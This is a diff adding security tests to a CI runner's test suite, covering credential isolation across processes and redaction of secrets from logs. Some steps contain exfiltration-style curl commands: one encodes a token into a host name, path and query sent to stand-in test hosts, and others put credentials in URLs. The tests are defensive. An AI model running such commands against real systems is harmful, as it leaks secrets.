@@ -9,8 +9,10 @@ import time
 import urllib.parse
 
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
-from dd import FETCH, PUSH, Job, case, check, equal, main, py, step  # noqa: E402
+from dd import FETCH, PUSH, Job, case, check, descendants, equal, main, py, step  # noqa: E402
+from world import ALLOWED, Resolver, Web  # noqa: E402
 
+W = {}
 CANARY = "canary-7Hq2" + os.urandom(12).hex()
 # Looks through everything a step can read for the canary, plain or encoded. The canary itself must not be in the script: it gets a hash.
 HUNT = '''
@@ -104,6 +106,77 @@ def _():
         job.close()
 
 
+@case("C-02", "a credential from drydock's own environment reaches its step, and stays in no process of the tree")
+def _():
+    import hashlib
+    steps = [step("make", hunt("make")), step("publish", 'printf %s "$TOKEN" | sha256sum | cut -c 1-64 | sed "s/.*/@@digest=&@@/"; sleep 1.5', PUSH), step("late", hunt("late"))]
+    job = Job(steps, {"push": {}}, credentials={"registry": {"from": {"env": "DD_CANARY"}, "for": {"phase": "push", "steps": ["publish"]}, "as": {"env": "TOKEN"}, "ttl": "5m"}})
+    try:
+        process = job.popen(env={"DD_CANARY": CANARY})
+        seen, publishing = {}, 0
+        while process.poll() is None:
+            tree = [process.pid, *descendants(process.pid)]
+            environs = {pid: read(f"/proc/{pid}/environ") for pid in tree}
+            held = [pid for pid, blob in environs.items() if CANARY.encode() in blob]
+            commands = {pid: read(f"/proc/{pid}/cmdline") for pid in tree}
+            if any(b"sleep" in c for c in commands.values()):
+                publishing += 1
+                for pid in held:
+                    if not any(word in commands[pid] for word in (b"publish", b"sleep")):
+                        seen[pid] = commands[pid]
+            time.sleep(0.02)
+        out = process.communicate()[0].decode("utf-8", "replace")
+    finally:
+        job.close()
+    equal(process.returncode, 0, "exit status\n" + out[-2000:])
+    check("@@digest=" + hashlib.sha256(CANARY.encode()).hexdigest() in out, "the step did not hold the credential\n" + out[-2000:])
+    for label in ("make", "late"):
+        check(f"@@hits-{label}=[]@@" in out, f"step {label} saw the canary\n" + out[-2000:])
+    check(publishing > 5, "the push step was never looked at: the test proves nothing")
+    equal(seen, {}, "processes besides the step whose environment holds the canary")
+
+
+def read(path):
+    try:
+        with open(path, "rb") as file:
+            return file.read()
+    except OSError:
+        return b""
+
+
+@case("L-08", "a secret spelled as a host name, allowed or not, is in no record and no output")
+def _():
+    canary = "canary-7hq2" + os.urandom(8).hex()
+    W["dns"].say(canary + ".wild.test", ALLOWED)
+    job = Job([step("publish", """curl -s -m 4 "http://$TOKEN.wild.test/$TOKEN?q=$TOKEN" | sed 's/.*/@@got=&@@/'; curl -s -m 4 "http://$TOKEN.nope.test/" || true""", PUSH)],
+              {"push": {"egress": [{"host": "*.wild.test", "port": 80}]}},
+              credentials={"registry": {"from": {"env": "DD_CANARY"}, "for": {"phase": "push", "steps": ["publish"]}, "as": {"env": "TOKEN"}, "ttl": "5m"}})
+    try:
+        r = job.run(env={"DD_CANARY": canary})
+        equal(r.rc, 0, "exit status", r)
+        equal(r.mark("got"), "this is allowed", "the allowed name", r)
+        check(canary not in r.out, "the secret is in the output", r)
+        for event in r.record:
+            check(canary not in str(event), f"the secret is in {event}", r)
+        check(r.events("net.allow") and r.events("dns.deny"), "the record lacks the attempts: the test proves nothing", r)
+    finally:
+        job.close()
+
+
+@case("L-08", "neither the name of a step nor a process that tried puts user info or a query string into the record")
+def _():
+    job = Job([{"id": "default-name", "_phase": "build", "run": "curl -s -m 3 'https://user:hunter2@example.test/p?token=hunter3#hunter4' || true"},
+               {"id": "own-name", "_phase": "build", "name": "see https://u:hunter2@h.test/?q=hunter3", "run": "sh -c 'exec curl -s -m 3 http://a.test/ http://u:hunter2@b.test/?hunter3' || true"}])
+    try:
+        r = job.run()
+        equal(r.rc, 0, "exit status", r)
+        check(len(r.events("dns.deny")) >= 2, "nothing was refused: the test proves nothing", r)
+        for event in r.record:
+            check("hunter" not in str(event), f"in the record: {event}", r)
+    finally:
+        job.close()
+
+
 @case("C-10", "a credential delivered as a file is on a private file system, mode 0400, and gone afterwards")
 def _():
     job = secret_job({"file": "token"})
@@ -147,5 +220,10 @@ def _():
         job.close()
 
 
+def setup():
+    W["dns"] = Resolver()
+    W["web"] = Web(ALLOWED, "allowed")
+
+
 if __name__ == "__main__":
-    main()
+    main(setup)
